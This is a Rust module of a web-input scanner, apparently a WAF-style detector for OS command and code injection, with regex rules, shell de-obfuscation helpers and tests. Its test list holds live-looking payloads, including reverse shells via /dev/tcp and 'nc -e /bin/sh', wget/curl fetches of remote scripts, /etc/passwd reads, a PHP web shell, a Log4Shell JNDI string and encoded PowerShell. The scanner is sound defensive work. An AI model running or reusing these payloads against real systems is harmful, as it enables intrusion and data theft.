//! OS command and code injection: a shell metacharacter (`;`, `|`, `&&`, newline,
//! backtick, `$(`) followed by a command, after undoing shell-level obfuscation
//! (quotes inside words, `\`, `$IFS`, `$@`); plus interpreter/deserialisation gadgets.

use super::rules::{rule, Category::Rce, PatternTable, Rule, Severity::*};
use super::scan::Text;

/// Commands that are not ordinary English words: a separator before them is enough.
macro_rules! strong_cmds {
    () => {
        r"(?:wget|curl|whoami|uname|getent|nslookup|ifconfig|ipconfig|netstat|systeminfo|tasklist|taskkill|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|schtasks|powershell|pwsh|bash|zsh|ksh|csh|tcsh|busybox|ncat|netcat|nc|socat|python[23]?|perl|ruby|php|base64|xxd|chmod|chown|chgrp|crontab|nohup|sudo|useradd|usermod|mkfifo|mknod|printenv|traceroute|pkill|killall|sh|cmd\.exe|net\.exe|reg\.exe|sc\.exe|net1|iwr|irm|iex|iwmi|icm|strace|ltrace|base32|cpulimit|flock|visudo|cscli|aptitude|regedit|bcdboot|bcdedit|vssadmin|wevtutil|icacls|msiexec|cscript|wscript|forfiles|bsdtar|nmap|tcpdump|msfvenom|ssh-keygen|setfacl|chattr|insmod|modprobe|iptables|ansible(?:-[a-z]+)?|chef-[a-z]+)"
    };
}

/// Everyday words that are also commands: require a command-like argument after them.
macro_rules! weak_cmds {
    () => {
        r"(?:echo|printf|set|type|find|host|net|reg|sort|tee|touch|mv|cp|mkdir|export|exec|eval|start|call|copy|del|move|ren|rename|cat|tac|ls|id|dir|ps|kill|head|tail|more|less|env|rm|nl|awk|sed|grep|dig|reboot|shutdown|halt|node|lua|gcc|ftp|tftp|ssh|scp|telnet|dash|cmd|passwd|xargs|ping|sleep|timeout|pwd|time|trap|fold|column|comm|alias|unset|source|tar|dd|od|rev)"
    };
}

/// What may stand between a separator and the command: an environment
/// assignment, `sudo`, a `bin/` directory.
macro_rules! cmd_prefix {
    () => {
        r"(?:[a-z_]+=\S*\s+)?(?:sudo\s+)?(?:/?(?:usr/)?(?:local/)?s?bin/)?"
    };
}

/// A shell command separator (also `$(` and process substitution `<(` `>(`), the
/// anchor for every command rule.
macro_rules! sep {
    () => {
        r"(?:[;|`\n]|&&|\|\||[$<>]\(|&)\s*"
    };
}

pub(super) static TABLE: PatternTable = PatternTable::new(&[
    (
        rule("rce-unix-command", Rce, 1, Critical),
        concat!(
            r"(?:[;|`]|&&|\|\||[$<>]\(|&)\s*",
            cmd_prefix!(),
            strong_cmds!(),
            r"(?:$|[\s;|&`)<>]|\.exe\b)|",
            // After a line break, as after any separator, but a line of text may
            // start with the word ("Python is …"): alone on its line, or with
            // command-like arguments (an option, a path, a URL, a host name).
            r"\n\s*",
            cmd_prefix!(),
            strong_cmds!(),
            r"(?:\s*$|[;|&`)<>\n]|\.exe\b|\s+(?:[-/.$~%'\x22\\]|[a-z]+://|[a-z0-9.-]+\.[a-z]{2,}\b))"
        ),
    ),
    // An everyday word after a separator (`; Touch;` in a mobile User-Agent,
    // `(BB10; Touch)`, `salt & pepper; cat food`) is prose or a product token unless
    // it hugs the separator as shell input does (`;id;`, `|id`, `;echo 1`); with
    // command-like arguments any spacing counts. A line break is also how text
    // starts a line ("Hi,\nfind attached …"), so after one the word must stand
    // alone (`%0aid%0a`) or take command-like arguments.
    (
        rule("rce-command-with-args", Rce, 1, Critical),
        concat!(
            r"(?:[;|`]|&&|\|\||\$\(|&)",
            weak_cmds!(),
            r"(?:$|[;|&`)<>\n]|\s+\S)|\n",
            weak_cmds!(),
            r"(?:$|[;|&`)<>\n])|",
            sep!(),
            weak_cmds!(),
            r"(?:\s+[-/.$~%]|\s+\x22?[a-z]:\\|\s*[|<>]|\s*`)"
        ),
    ),
    // A value that is itself a command line: a command with an option, a path or
    // a URL after it (`nmap -sS host`, `curl http://…`; the bare word, a search
    // for "python", is not), or run through a wrapper (`time ifconfig`).
    (
        rule("rce-command-line", Rce, 1, Critical),
        concat!(
            r"^\s*(?:sudo\s+)?(?:/?(?:usr/)?(?:local/)?s?bin/)?",
            strong_cmds!(),
            r"\s+(?:-{1,2}[a-z]|/|[a-z]+://)|(?:^|[;|&`\n])\s*(?:time|nohup|strace|ltrace|nice|timeout|xargs|env|busybox|command|exec)\s+(?:-\S+\s+)*(?:[a-z_]+=\S*\s+)*",
            strong_cmds!(),
            r"(?:$|[\s;|&`)<>])"
        ),
    ),
    (
        rule("rce-timing-probe", Rce, 1, Critical),
        concat!(sep!(), r"(?:ping|sleep|timeout)\s+(?:-[a-z]\s+)?\d|\bping\s+-[nc]\s*\d+\s+[a-z0-9]"),
    ),
    (
        rule("rce-shell-path", Rce, 1, Critical),
        r"/bin/(?:ba|z|k|c|tc|da|fi)?sh\b|/usr/bin/(?:env|perl|python[23]?|php|ruby|nc|wget|curl|id)\b|\bcmd(?:\.exe)?\s+/[ck]\s|[;|&`]\s*(?:usr/)?s?bin/[a-z]|/dev/(?:tcp|udp)/|(?:^|[\s;|&(`])(?:ba|z|k|c|tc|da)?sh\s+-c\s|\$\{?shell\}?\s+-c\s",
    ),
    // A wildcard path into a system directory (`/???/c?t`, `/etc/pa[s]swd`,
    // `/bi[n]/bash`): a glob the shell expands to the real file, so the plain name
    // never appears. Only a shell expands globs; no legitimate value needs one
    // inside `/etc`.
    (
        rule("rce-glob-system-path", Rce, 1, Critical),
        r"/(?:etc|bin|sbin|usr|dev|proc|root|boot|lib)/[^\s;|&]*[?*\[]|(?:^|[\s;|&=(`'\x22<>])/[a-z.]*(?:[?*]|\[[^\]\s]{1,8}\])[a-z.?*\[\]]*/",
    ),
    (
        rule("rce-shellshock", Rce, 1, Critical),
        r"\(\s*\)\s*\{\s*[:\w]*\s*;?\s*\}\s*;",
    ),
    // `$((…))` and bash's older `$[…]`; an operator is required in the latter, so a
    // JSONPath such as `$[0]` or `$[1:3]` is not arithmetic.
    (rule("rce-arith-subst", Rce, 1, Critical), r"\$\(\(\s*[\d$]|\$\[\s*[\d$][^\]]*[-+*/%^]"),
    // `:(){ :|:& };:` (a function that pipes into itself) and cmd.exe `for … in (…) do`.
    // Unbounded classes, not `{0,n}`: counted repetitions multiply DFA states.
    (
        rule("rce-shell-construct", Rce, 1, Critical),
        r":\s*\(\s*\)\s*\{[^}]*\|[^}]*\}|\bfor\s+(?:/[dfrl]\b[^%]*)?%%?[^\s%]+\s+in\s*\([^)]*\)\s*do\b",
    ),
    (
        rule("rce-command-substitution", Rce, 1, Critical),
        concat!(
            r"(?:\$\(|`)\s*",
            strong_cmds!(),
            r"\b[^`)]*[`)]|\$\(\s*",
            weak_cmds!(),
            r"(?:\s[^)]*|\$[^)]*)?\)|[<>]\(\s*(?:",
            strong_cmds!(),
            "|",
            weak_cmds!(),
            r")\b[^)]*\)"
        ),
    ),
]);

/// Interpreter, template and deserialisation gadgets: code for a runtime other
/// than the shell, so they need none of the shell's bytes (`java.lang.Runtime`,
/// `rO0AB…`, `on error resume next`) and run on every value.
pub(super) static CODE: PatternTable = PatternTable::new(&[
    (
        rule("rce-powershell", Rce, 1, Critical),
        r"\b(?:powershell|pwsh)(?:\.exe)?\s+-|-(?:encodedcommand|enc)\s+[a-z0-9+/=]{16,}|\biex\s*\(|invoke-(?:expression|webrequest|command)|new-object\s+(?:system\.)?net\.webclient|downloadstring\s*\(|start-process\s",
    ),
    (
        rule("rce-code-injection", Rce, 1, Critical),
        r"\b(?:system|passthru|shell_exec|proc_open|popen|pcntl_exec|phpinfo|assert|create_function)\s*\(|<\?\s*php\b|\bos\s*\.\s*(?:system|popen|exec[a-z]*|spawn[a-z]*)\s*\(|subprocess\s*\.\s*[a-z_]+\s*\(|__import__\s*\(|runtime\s*\.\s*getruntime\s*\(|java\.lang\.(?:runtime|processbuilder)|child_process|require\s*\(\s*['\x22]child_process",
    ),
    // Classes that only an exploit names in a request: deserialisation gadget
    // chains (ysoserial's transformers, `XMLDecoder`, JNDI, `JdbcRowSetImpl`),
    // expression-language escapes into the JVM (OGNL's `#_memberAccess`,
    // Spring4Shell's `class.module.classLoader`), and scripting engines.
    (
        rule("rce-java-gadget", Rce, 1, Critical),
        r"\bjava\.(?:lang\.)?(?:runtime|processbuilder)\b|\bjava\.lang\.reflect\.|\bjavax\.(?:script|naming)\.|\bcom\.opensymphony\.xwork2|\bcom\.sun\.org\.apache\.|\borg\.apache\.commons\.collections\d*\.functors|(?:invoker|instantiate|chained|constant|clone)transformer|instantiatefactory|prototype(?:clone|serialization)factory|whileclosure|\bxmldecoder\b|\bjava\.beans\.|\borg\.codehaus\.groovy\.runtime|\bbsh\.interpreter|\bjdk\.jshell|jdbcrowsetimpl|templatesimpl|\borg\.springframework\.context\.support\.|freemarker\.template\.utility|#_memberaccess|@java\.lang\.|\bclass\.module\.classloader|ognlcontext",
    ),
    // PHP's code-running, decoding and socket functions called (`gzinflate(`,
    // `FOOcall_user_func(`: PHP names are found inside longer words too), and
    // PHP or Smarty code tags.
    (
        rule("rce-php-function", Rce, 1, Critical),
        r"(?:base64_decode|gz(?:inflate|uncompress|decode)|bzdecompress|str_rot13|p?fsockopen|posix_[a-z]+|call_user_func(?:_array)?|file_(?:get|put)_contents|escapeshell(?:cmd|arg)|show_source|highlight_file|move_uploaded_file|preg_replace|unserialize)\s*\(|(?:^|[^a-z0-9_.])@?(?:exec|eval|chr|fopen|fwrite|fputs|include|require(?:_once)?)\s*\(\s*[\x22'$\d)]|<\?=\s*[\x22'$]|[\[{]/?\\?php[\]}]",
    ),
    // Node.js: node-serialize's function marker, and escapes from a sandbox to the
    // `Function` constructor.
    (
        rule("rce-node-injection", Rce, 1, Critical),
        r"_\$\$nd_func\$\$_|__js_function|constructor\.constructor\s*\(|\bthis\.constructor\.constructor\b|\bnew\s+function\s*\(\s*[\x22'`]",
    ),
    (
        rule("rce-deserialization", Rce, 1, Critical),
        r"!!python/|!!javax?\.|\bro0ab[a-z0-9+/]|\baced0005|o:\d+:\x22[a-z_\\]+\x22:\d+:\{|\$type\x22?\s*:\s*\x22system\.",
    ),
    (
        rule("rce-asp-vbscript", Rce, 1, Critical),
        r"\bcreateobject\s*\(|wscript\.shell|response\.(?:write|end)\b|server\.(?:scripttimeout|createobject|execute)\b|on error resume next|\bexecute\s*\(\s*[\x22a-z(]",
    ),
    (
        rule("rce-log4shell", Rce, 1, Critical),
        r"\$\{\s*(?:jndi|\$\{[^}]*\}[^}]*j[^}]*n[^}]*d[^}]*i)[^}]*:",
    ),
]);

/// Items of one brace group expanded (`{a,b,…}`): a command and its arguments
/// fit, and a long list cannot multiply the text scanned.
const MAX_BRACE_ITEMS: usize = 8;

pub fn detect(t: &Text<'_>, out: &mut Vec<&'static Rule>) {
    let start = out.len();
    CODE.scan(t.s, out);
    // Every shell rule needs one of these bytes, or a value that opens with a wrapper.
    if !t.has_any(b";|&`$\n({/\\<!-") && !starts_with_wrapper(t.s) {
        return;
    }
    TABLE.scan(t.s, out);
    // `{a,b}` runs as the words `a b` (brace expansion spells a command:
    // `{cat,/etc/passwd}`, `c{a,oun}t`): scanned as a command line of its own.
    if t.has(b'{') && t.has(b',') {
        if let Some(expanded) = brace_expand(t.s) {
            scan_form(&expanded, &[&TABLE], out, start);
        }
    }
    // Shell quoting tricks (`c'a't`, `c\at`, `cat$IFS/etc`) only exist with these bytes.
    if t.has_any(b"'\"\\$") {
        let unquoted = shell_unquote(t.s);
        if unquoted != t.s {
            scan_form(&unquoted, &[&TABLE, &CODE], out, start);
        }
    }
}

/// Scans `form` (the value as the shell would read it) with `tables`, adding
/// the rules not already reported for the value since `start`.
fn scan_form(form: &str, tables: &[&PatternTable], out: &mut Vec<&'static Rule>, start: usize) {
    let mut more = Vec::new();
    for table in tables {
        table.scan(form, &mut more);
    }
    for r in more {
        if !out[start..].iter().any(|o| o.id == r.id) {
            out.push(r);
        }
    }
}

/// Does `s` open with a command wrapper (`time`, `nohup`, …) and another word?
fn starts_with_wrapper(s: &str) -> bool {
    const WRAPPERS: [&str; 10] = ["time ", "nohup ", "strace ", "ltrace ", "nice ", "timeout ", "xargs ", "env ", "busybox ", "command "];
    let s = s.trim_start();
    WRAPPERS.iter().any(|w| s.starts_with(w))
}

/// `s` with each brace expansion replaced by the words bash makes of it
/// (`pre{a,b}post` → `preapost prebpost`, empty items dropped) after a `;`, so
/// the command rules see them in command position; `None` when `s` has none. A
/// group is `{…}` with a comma and no space, quote or colon (JSON has those).
fn brace_expand(s: &str) -> Option<String> {
    let mut out = String::new();
    let (mut copied, mut from) = (0, 0);
    while let Some(open) = s[from..].find('{').map(|i| i + from) {
        let after = &s[open + 1..];
        let Some(close) = after.find(['}', '{']) else { break };
        let inner = &after[..close];
        if after.as_bytes()[close] != b'}' || !inner.contains(',') || inner.contains([' ', '"', '\'', ':', '\n']) {
            from = open + 1;
            continue;
        }
        let is_edge = |c: char| c.is_ascii_whitespace() || "'\";|&`=()".contains(c);
        let word_start = s[copied..open].rfind(is_edge).map_or(copied, |i| copied + i + 1);
        let tail = open + 1 + close + 1;
        let word_end = s[tail..].find(is_edge).map_or(s.len(), |i| tail + i);
        let (prefix, suffix) = (&s[word_start..open], &s[tail..word_end]);
        out.push_str(&s[copied..word_start]);
        out.push(';');
        let words = inner.split(',').take(MAX_BRACE_ITEMS).filter(|w| !(prefix.is_empty() && suffix.is_empty() && w.is_empty()));
        for (k, w) in words.enumerate() {
            if k > 0 {
                out.push(' ');
            }
            out.push_str(prefix);
            out.push_str(w);
            out.push_str(suffix);
        }
        copied = word_end;
        from = word_end;
    }
    if out.is_empty() {
        return None;
    }
    out.push_str(&s[copied..]);
    Some(out)
}

/// Undo shell word obfuscation: drop quotes and backslashes, turn `$IFS`, `${IFS}`,
/// `$IFS$9` into a space and drop empty expansions like `$@`, `$9`.
fn shell_unquote(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let rest = &s[i..];
        if let Some(r) = rest
            .strip_prefix("${ifs}")
            .or_else(|| rest.strip_prefix("$ifs"))
        {
            out.push(' ');
            i = s.len() - r.len();
            if s[i..].starts_with('$') && s.as_bytes().get(i + 1).is_some_and(u8::is_ascii_digit) {
                i += 2;
            }
            continue;
        }
        match b[i] {
            b'\'' | b'"' | b'\\' => i += 1,
            b'$' if b
                .get(i + 1)
                .is_some_and(|c| c.is_ascii_digit() || *c == b'@' || *c == b'*') =>
            {
                i += 2
            }
            _ => {
                let ch_len = rest.chars().next().map_or(1, char::len_utf8);
                out.push_str(&rest[..ch_len]);
                i += ch_len;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::test_util::{fires, ids};

    proptest::proptest! {
        /// Brace expansion and the wrapper test slice the value by hand: any
        /// text, multi-byte characters and unbalanced braces included, is read
        /// without a panic, and a value without a group expands to nothing.
        #[test]
        fn hand_slicing_is_total(s in r#"([{},;|&='" a-z/é\n]|time |\{a,b\}){0,24}"#) {
            let _ = ids(&s);
            let expanded = super::brace_expand(&s);
            if !s.contains(',') || !s.contains('{') {
                proptest::prop_assert!(expanded.is_none());
            }
            let _ = super::starts_with_wrapper(&s);
        }
    }

    #[test]
    fn attacks() {
        for p in [
            ";wget http://x/sh.sh",
            "|getent+hosts+x.example.&",
            ";getent$IFS$9hosts$IFS$9x;echo$IFS$9$((3482*7301));",
            "| set /a 3482*7301",
            "; cat /et'c/pa'ss'wd",
            "cmd=127.0.0.1 && ls /etc",
            "ax--exec=`id`--remote=origin",
            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
            "$(whoami)",
            "a|c\\at /etc/hosts",
            "x & ping -n 3 127.0.0.1",
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA",
            "!!python/object/new:exec [import socket]",
            "${jndi:ldap://x/a}",
            "<?php system($_GET['c']); ?>",
            "%0Aid%0A",
            ";echo 111111",
            "|usr/bin/id",
            "x ping -n 30 127.0.0.1",
            "<(cat file)",
            ":(){ :|:& };:",
            "& for %a in (a,b,c) do cmd",
            "for /f \"usebackq\" %variable in (`command`) do command",
            "cat /etc/pa[s]swd",
            "cat /[?]tc/pa[?]swd",
            "/bi[n]/bash",
            "cat /[e//]tc/[p//]asswd",
            "/???/c?t /???/p??s??",
            "{cat,/etc/passwd}",
            "c{a,oun}t /etc/hosts",
            "{,ifconfig}",
            "{l,-lh}s",
            ";iwr http://example.com/file.ps1",
            "time sh -c whoami",
            "code=$SHELL -c \"echo hi\"",
            "d=/dev&&(sh)0>/dev/tcp/51.15.142.164/777",
            "$[2+2]",
            ";strace ifconfig",
            "%0Awget http://x.example/s.sh%0A",
            "x%0anslookup attacker.example%0a",
            "%0Awhoami%0A",
            "nmap -sS 10.0.0.1",
            "curl http://x.example/a.sh",
            "time ifconfig",
            "nohup nc -e /bin/sh x 4444",
            "$(cat$())",
            "$(id)",
            "for /r c:\\ %variable in (set) do command",
            "FOR /L /L /L     %a IN (start,step,end) DO abc",
            "& FOR %@ IN (a,b,c)DO cmd",
            "java.lang.Runtime",
            "com.opensymphony.xwork2.ActionContext",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
            "on error resume next",
            "gzinflate(base64_decode('x'))",
            "FOOcall_user_func()",
            "@exec('test')",
            "eval($foo)",
            "<?= \"test\"",
            "{php}test{/php}",
            "_$$ND_FUNC$$_function(){}",
            "this.constructor.constructor('return process')()",
            "new Function('return this')()",
        ] {
            assert!(fires(p, "rce-"), "{p}: {:?}", ids(p));
        }
    }

    #[test]
    fn benign() {
        for p in [
            "echo in the mirror",
            "curl and divergence",
            "exec noun",
            "bash away in the gym",
            "zsh is the best!",
            "ls 300 lexus",
            "nc 8000 controller",
            "Tom & Jerry",
            "salt & pepper; cat food is great",
            "R&D | Q&A",
            "The parameter 5 is&|.",
            "url=/?usr=subject;-",
            "$(document).ready(fn)",
            "price: $5 & up",
            "I setted the COOKIE value to : expandGeoJsonFeatures=true;",
            "we ship worldwide; type your address below",
            "Mozilla/5.0 (BB10; Touch) AppleWebKit/537.3+ (KHTML, like Gecko) Version/10.0.9.388 Mobile Safari/537.3+",
            "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0)",
            "apples, pears & more",
            "first line\nsecond line, then more",
            "/api/v1/items?page=2&sort=name",
            "/etc is where config lives",
            "choose {red,green,blue}",
            "{\"a\":1,\"b\":2}",
            "$[0].name",
            "$[1:3]",
            "https://example.com/search?q=/usr/share",
            "a shell (sh) runs scripts; time to learn",
            "Hi team,\nfind attached the report",
            "Notes:\nset the table\nmove the chairs",
            "Skills:\nPython and Go\nPerl when I must",
            "Hello,\ntime to renew my subscription",
            "python",
            "python tutorial for beginners",
            "$(this).hide()",
            "$(window).on('load', f)",
            "it is time to go",
            "for 50% in (most) cases do this",
            "java and javascript are different languages",
            "the Runtime of the movie is 2h",
            "the exec (executive) team met",
            "please evaluate (and rank) these",
            "a new function (feature) shipped",
        ] {
            assert!(!fires(p, "rce-"), "{p}: {:?}", ids(p));
        }
    }
}
